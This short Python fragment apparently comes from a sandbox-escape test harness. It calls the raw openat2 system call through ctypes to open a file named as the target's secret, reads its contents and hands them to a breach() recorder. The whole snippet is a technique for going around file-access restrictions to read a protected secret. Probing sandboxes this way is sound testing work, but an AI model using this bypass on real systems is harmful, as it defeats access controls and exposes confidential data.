import ctypes, os
how = (ctypes.c_uint64 * 3)(0, 0, 0)
fd = syscall(437, -100, TARGET["secret"].encode(), how, 24)
if fd >= 0:
    breach(os.read(fd, 99).decode())
